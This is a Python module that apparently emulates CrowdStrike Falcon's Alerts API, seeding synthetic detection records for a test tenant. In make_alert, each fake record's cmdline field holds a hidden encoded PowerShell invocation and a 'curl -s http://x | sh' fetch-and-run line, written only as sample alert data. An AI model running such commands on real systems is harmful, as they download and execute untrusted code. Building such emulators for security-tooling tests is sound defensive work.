"""Alert records of one CID: the record, its FQL/sort fields, the seeded set, users to assign and injection.

Shapes follow FalconPy's endpoint table (src/falconpy/_endpoint/_alerts.py) and its docs: the 2023 spec has none of
the v2/v3 Alerts paths. Composite ids look like real ones: '<cid>:ind:<device_id>:<number>-<pattern id>-<seq>'.
"""

import copy
import random
import time

from .fql import Field

SEVERITY_NAMES = ((80, 'Critical'), (60, 'High'), (40, 'Medium'), (20, 'Low'), (0, 'Informational'))
STATUSES = ('new', 'in_progress', 'reopened', 'closed')
PRODUCTS = ('epp', 'idp', 'overwatch', 'xdr')
# (product, type, pattern_id, name, tactic, tactic_id, technique, technique_id, severity) of the seeded alerts.
PATTERNS = (
    ('epp', 'ldt', 10197, 'CredentialDumping', 'Credential Access', 'TA0006', 'OS Credential Dumping', 'T1003', 90),
    ('epp', 'ldt', 50102, 'RansomwareFileEncryption', 'Impact', 'TA0040', 'Data Encrypted for Impact', 'T1486', 100),
    ('epp', 'ldt', 10304, 'SuspiciousPowerShell', 'Execution', 'TA0002', 'PowerShell', 'T1059.001', 70),
    ('epp', 'ldt', 10146, 'MaliciousDocument', 'Initial Access', 'TA0001', 'Spearphishing Attachment', 'T1566.001', 50),
    ('epp', 'ldt', 5701, 'AdwarePUP', 'Machine Learning', 'CSTA0004', 'Adware/PUP', 'CST0002', 30),
    ('epp', 'ldt', 41002, 'PolicyCustomIOA', 'Custom Intelligence', 'CSTA0005', 'Indicator of Attack', 'CST0004', 10),
    (
        'idp',
        'idp-user-endpoint-app-access',
        51113,
        'UnusualLogonLocation',
        'Initial Access',
        'TA0001',
        'Valid Accounts',
        'T1078',
        40,
    ),
    (
        'idp',
        'idp-session-source-endpoint-target-info',
        51120,
        'KerberoastingAttempt',
        'Credential Access',
        'TA0006',
        'Kerberoasting',
        'T1558.003',
        80,
    ),
    (
        'overwatch',
        'ofp',
        20001,
        'OverWatchHandsOnKeyboard',
        'Discovery',
        'TA0007',
        'System Network Discovery',
        'T1016',
        80,
    ),
    ('xdr', 'xdr', 60010, 'XdrLateralMovement', 'Lateral Movement', 'TA0008', 'Remote Services', 'T1021', 60),
)
# Users alerts can be assigned to: (uuid, user id, name). assign_to_* with anything else is refused.
USERS = (
    ('5b9e2c3a-1f4d-4a7e-9c2b-0d8f6e1a2b3c', 'jane.doe@example.com', 'Jane Doe'),
    ('7c1a4e5f-2b3d-4c6e-8f9a-1b2c3d4e5f60', 'omar.haddad@example.com', 'Omar Haddad'),
    ('9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b', 'sec-automation@example.com', 'SOC Automation'),
    ('0f1e2d3c-4b5a-4968-8776-5a4b3c2d1e0f', 'priya.raman@example.com', 'Priya Raman'),
)
SEED_TAGS = ('triage', 'phishing-campaign', 'vip-host', 'false-positive-candidate')
# The spec's alert record: the union of the swagger model detects.Alert and the SDK model DetectsExternalAlert
# (API behaviour 9.8). By default the API answers carry only these keys.
SPEC_FIELDS = frozenset(
    [
        'agent_id',
        'aggregate_id',
        'assigned_to_name',
        'assigned_to_uid',
        'assigned_to_uuid',
        'cid',
        'composite_id',
        'confidence',
        'crawl_edge_ids',
        'crawl_traversal',
        'crawl_vertex_ids',
        'crawled_timestamp',
        'created_timestamp',
        'data_domains',
        'description',
        'display_name',
        'email_sent',
        'external',
        'id',
        'mitre_attack',
        'name',
        'objective',
        'pattern_id',
        'platform',
        'product',
        'resolution',
        'scenario',
        'seconds_to_resolved',
        'seconds_to_triaged',
        'severity',
        'severity_name',
        'show_in_ui',
        'source_products',
        'source_vendors',
        'status',
        'tactic',
        'tactic_id',
        'tags',
        'technique',
        'technique_id',
        'timestamp',
        'type',
        'updated_timestamp',
    ]
)
# Keys the emulator keeps on a record that neither the spec nor a recorded answer has (the older guesses). FQL
# filters and sorts still read them (device.hostname ...); the API answers show them only under the
# alert_extra_fields setting.
EXTRA_FIELDS = frozenset(['device', 'filename', 'filepath', 'cmdline', 'user_name', 'seen', 'falcon_host_link'])
DEVICE_KEYS = (
    'device_id',
    'cid',
    'hostname',
    'platform_name',
    'platform_id',
    'os_version',
    'product_type_desc',
    'agent_version',
    'local_ip',
    'external_ip',
    'mac_address',
    'machine_domain',
    'site_name',
    'groups',
    'tags',
    'status',
    'system_manufacturer',
    'system_product_name',
)
# Keys add_alert() accepts besides cid/device_id/severity (any other is refused with their list).
INJECTABLE = (
    'product',
    'type',
    'pattern_id',
    'name',
    'display_name',
    'description',
    'tactic',
    'tactic_id',
    'technique',
    'technique_id',
    'status',
    'tags',
    'assigned_to_uuid',
    'assigned_to_uid',
    'assigned_to_name',
    'show_in_ui',
    'filename',
    'filepath',
    'cmdline',
    'user_name',
    'confidence',
    'created_timestamp',
    'timestamp',
)


def severity_name(severity):
    """The console's band name of a 0-100 severity."""
    return next(name for floor, name in SEVERITY_NAMES if severity >= floor)


def iso_ms(epoch):
    """ISO 8601 UTC with milliseconds, as alert timestamps are shown."""
    return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(epoch)) + '.%03dZ' % (int(epoch * 1000) % 1000)


def find_user(value):
    """The (uuid, uid, name) of a user known by any of the three, or None."""
    for user in USERS:
        if value in user:
            return user
    return None


class Alert:
    """One alert: a mutable record dict plus epoch times (rendered to ISO 8601 by to_dict).

    The record holds the spec's fields and the EXTRA_FIELDS (a host snapshot, process details ...) that FQL filters
    read; to_dict shows the extra ones only when asked (the alert_extra_fields setting).
    """

    # comments: what append_comment wrote. The spec's record (DetectsExternalAlert) has no comments field, so they
    # are kept beside the record and shown only under the alert_comments_field setting.
    __slots__ = ('record', 'created', 'updated', 'timestamp', 'comments')

    def __init__(self, record, created, timestamp):
        self.record = record
        self.comments = []
        self.created = created
        self.updated = created
        self.timestamp = timestamp

    @property
    def composite_id(self):
        """The alert's composite id."""
        return self.record['composite_id']

    def to_dict(self, comments_field=False, extra_fields=False):
        """The alert as the API returns it (a copy): only SPEC_FIELDS keys, unless extra_fields (every key the
        emulator keeps, EXTRA_FIELDS included); comments_field adds the non-spec comments list."""
        if extra_fields:
            out = copy.deepcopy(self.record)
        else:
            out = {key: copy.deepcopy(value) for key, value in self.record.items() if key in SPEC_FIELDS}
        if comments_field:
            out['comments'] = copy.deepcopy(self.comments)
        out['created_timestamp'] = iso_ms(self.created)
        out['updated_timestamp'] = iso_ms(self.updated)
        out['timestamp'] = iso_ms(self.timestamp)
        out['crawled_timestamp'] = iso_ms(self.created + 2)
        return out

    def shown(self, config):
        """The alert as the API returns it under the emulator settings (alert_comments_field, alert_extra_fields)."""
        return self.to_dict(config.alert_comments_field, config.alert_extra_fields)


def _device_block(host):
    """The device block of an alert: a snapshot of the host when the alert was raised."""
    record = host.to_dict()
    return {key: copy.deepcopy(record[key]) for key in DEVICE_KEYS}


def _pattern_fields(pattern):
    """Record fields of one PATTERNS row."""
    product, kind, pattern_id, name, tactic, tactic_id, technique, technique_id, _severity = pattern
    return {
        'product': product,
        'type': kind,
        'pattern_id': pattern_id,
        'name': name,
        'display_name': '%s on host' % name,
        'description': '%s detected (%s, %s)' % (name, tactic, technique),
        'tactic': tactic,
        'tactic_id': tactic_id,
        'technique': technique,
        'technique_id': technique_id,
        'scenario': technique.lower().replace(' ', '_').replace('/', '_'),
    }


def make_alert(cid, host, number, seq, pattern, severity, created):
    """A new alert record on host (status new, unassigned, shown in the UI)."""
    aid = host.device_id
    local_id = 'ind:%s:%d-%d-%d' % (aid, number, pattern[2], seq)
    record = {
        'composite_id': '%s:%s' % (cid, local_id),
        'id': local_id,
        'aggregate_id': 'aggind:%s:%d' % (aid, number),
        'cid': cid,
        'agent_id': aid,
        'platform': host.platform,
        'severity': severity,
        'severity_name': severity_name(severity),
        'confidence': 80 + number % 21,
        'status': 'new',
        'tags': [],
        'show_in_ui': True,
        'seen': False,
        'email_sent': False,
        'assigned_to_uuid': '',
        'assigned_to_uid': '',
        'assigned_to_name': '',
        'source_products': ['Falcon Insight'],
        'source_vendors': ['CrowdStrike'],
        'filename': 'powershell.exe' if host.platform == 'Windows' else 'bash',
        'user_name': 'CORP\\svc-%04d' % (number % 9999),
        'filepath': '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
        if host.platform == 'Windows'
        else '/usr/bin/bash',
        'cmdline': 'powershell.exe -nop -w hidden -enc SQBFAFgA'
        if host.platform == 'Windows'
        else 'bash -c "curl -s http://x | sh"',
        'falcon_host_link': 'https://falcon.crowdstrike.com/activity-v2/detections/%s' % local_id.replace(':', '%3A'),
        'device': _device_block(host),
    }
    record.update(_pattern_fields(pattern))
    return Alert(record, created, created - 5)


def seed_alerts(seed, cid, hosts, now):
    """The seeded alerts of a CID: 0-4 per host (about 2 on average), deterministic for (seed, CID), last 30 days."""
    rng = random.Random('%s:%s:alerts' % (seed, cid))
    alerts = []
    for host in hosts:
        for _draw in range(rng.choice((0, 1, 1, 2, 2, 2, 3, 3, 4))):
            pattern = rng.choice(PATTERNS)
            created = now - rng.randrange(60, 30 * 86400)
            alert = make_alert(cid, host, rng.randrange(10**11, 10**12), len(alerts) + 1, pattern, pattern[8], created)
            roll = rng.random()
            if roll < 0.25:
                user = rng.choice(USERS)
                alert.record.update(
                    status='in_progress', assigned_to_uuid=user[0], assigned_to_uid=user[1], assigned_to_name=user[2]
                )
            elif roll < 0.45:
                alert.record['status'] = 'closed'
            elif roll < 0.5:
                alert.record['status'] = 'reopened'
            if rng.random() < 0.3:
                alert.record['tags'] = [rng.choice(SEED_TAGS)]
            if rng.random() < 0.03:
                alert.record['show_in_ui'] = False
            alert.updated = created + rng.randrange(0, 3600) if alert.record['status'] != 'new' else created
            alerts.append(alert)
    return alerts


def _field(kind, key):
    """A Field reading one record key."""
    return Field(kind, lambda a: a.record.get(key))


def _build_fields():
    """FQL fields of alerts (name -> Field) and the sortable subset."""
    # Keyword fields match whole values; analysed text fields take the recorded prefix match
    # (fql.py, API behaviour 9.2).
    fields = {
        key: _field('str', key)
        for key in (
            'composite_id',
            'id',
            'aggregate_id',
            'cid',
            'agent_id',
            'product',
            'type',
            'platform',
            'severity_name',
            'status',
            'tactic_id',
            'technique_id',
            'assigned_to_uuid',
            'assigned_to_uid',
        )
    }
    fields.update(
        {
            key: _field('text', key)
            for key in (
                'name',
                'display_name',
                'description',
                'tactic',
                'technique',
                'scenario',
                'filename',
                'filepath',
                'cmdline',
                'user_name',
                'assigned_to_name',
            )
        }
    )
    fields.update(
        {
            'severity': _field('num', 'severity'),
            'confidence': _field('num', 'confidence'),
            'pattern_id': _field('num', 'pattern_id'),
            'show_in_ui': _field('bool', 'show_in_ui'),
            'seen': _field('bool', 'seen'),
            'tags': _field('list', 'tags'),
            'created_timestamp': Field('time', lambda a: a.created),
            'updated_timestamp': Field('time', lambda a: a.updated),
            'timestamp': Field('time', lambda a: a.timestamp),
        }
    )
    for key in (
        'device_id',
        'platform_name',
        'product_type_desc',
        'local_ip',
        'external_ip',
        'machine_domain',
        'site_name',
        'agent_version',
    ):
        fields['device.' + key] = Field('str', lambda a, k=key: a.record['device'].get(k))
    for key in ('hostname', 'os_version'):
        fields['device.' + key] = Field('text', lambda a, k=key: a.record['device'].get(k))
    fields['device.tags'] = Field('list', lambda a: a.record['device'].get('tags', []))
    fields['device.groups'] = Field('list', lambda a: a.record['device'].get('groups', []))
    sortable = frozenset(
        [
            'timestamp',
            'created_timestamp',
            'updated_timestamp',
            'status',
            'aggregate_id',
            'assigned_to_name',
            'assigned_to_uid',
            'assigned_to_uuid',
            'tactic_id',
            'tactic',
            'technique',
            'technique_id',
            'pattern_id',
            'product',
            'severity',
            'composite_id',
            'id',
            'cid',
            'show_in_ui',
            'type',
            'platform',
            'name',
            'confidence',
            'device.hostname',
            'device.device_id',
        ]
    )
    return fields, sortable


ALERT_FIELDS, ALERT_SORTABLE = _build_fields()


def sort_key(field):
    """Sort key of alerts on field, with the composite id as the tie-breaker (a total, stable order for `after`)."""
    spec = ALERT_FIELDS[field]
    if spec.kind in ('time', 'num'):
        return lambda a: (spec.getter(a) or 0, a.composite_id)
    return lambda a: (str(spec.getter(a) or '').lower(), a.composite_id)


class AlertStore:
    """The alerts of one tenant, created on first use (callers hold tenant.lock)."""

    def __init__(self, tenant, seed):
        self.tenant = tenant
        self.alerts = seed_alerts(seed, tenant.cid, tenant.hosts, int(tenant.created))
        self.by_id = {a.composite_id: a for a in self.alerts}
        self.injected = 0

    def query(self, predicate, sort, include_hidden=True):
        """Matching alerts in the requested order (default: created_timestamp descending)."""
        field, descending = sort or ('created_timestamp', True)
        found = [a for a in self.alerts if (include_hidden or a.record['show_in_ui']) and predicate(a)]
        found.sort(key=sort_key(field), reverse=descending)
        return found

    def add(self, device_id=None, severity=90, now=None, **fields):
        """Inject a new alert (status new) on a host (default: the first host); return it. ValueError on bad input."""
        unknown = sorted(set(fields) - set(INJECTABLE))
        if unknown:
            raise ValueError(
                'unknown alert field(s) %s; allowed: cid, device_id, severity, %s'
                % (', '.join(unknown), ', '.join(INJECTABLE))
            )
        if isinstance(severity, bool) or not isinstance(severity, int) or not 0 <= severity <= 100:
            raise ValueError('severity must be an integer from 0 to 100, got %r' % (severity,))
        hosts = self.tenant.hosts
        if device_id is None:
            if not hosts:
                raise ValueError('the CID %s has no hosts to raise an alert on' % self.tenant.cid)
            host = hosts[0]
        else:
            host = self.tenant.by_id.get(device_id)
            if host is None:
                raise ValueError('unknown device_id %r in CID %s' % (device_id, self.tenant.cid))
        if 'status' in fields and fields['status'] not in STATUSES:
            raise ValueError('status must be one of %s, got %r' % (', '.join(STATUSES), fields['status']))
        now = time.time() if now is None else now
        self.injected += 1
        pattern = next((p for p in PATTERNS if p[8] == severity), PATTERNS[0])
        alert = make_alert(
            self.tenant.cid, host, 900000000000 + self.injected, len(self.alerts) + 1, pattern, severity, now
        )
        _apply_injected(alert, fields)
        self.alerts.append(alert)
        self.by_id[alert.composite_id] = alert
        return alert


def _apply_injected(alert, fields):
    """Overlay the add_alert() fields on a fresh alert (times accept epoch seconds or ISO 8601)."""
    from .fql import parse_time  # pylint: disable=import-outside-toplevel

    for key in ('created_timestamp', 'timestamp'):
        if key in fields:
            value = fields.pop(key)
            epoch = (
                value
                if isinstance(value, (int, float)) and not isinstance(value, bool)
                else parse_time(str(value), time.time())
            )
            if epoch is None:
                raise ValueError('%s must be epoch seconds or ISO 8601, got %r' % (key, value))
            if key == 'created_timestamp':
                alert.created = alert.updated = epoch
            else:
                alert.timestamp = epoch
    if 'tags' in fields and (
        not isinstance(fields['tags'], list) or not all(isinstance(t, str) for t in fields['tags'])
    ):
        raise ValueError('tags must be a list of strings, got %r' % (fields['tags'],))
    alert.record.update(copy.deepcopy(fields))


def alert_store(app, tenant):
    """The AlertStore of a tenant, seeded on first use (tenant.lock must be held)."""
    store = tenant.__dict__.get('alert_store')
    if store is None:
        store = tenant.__dict__['alert_store'] = AlertStore(tenant, app.config.seed)
    return store
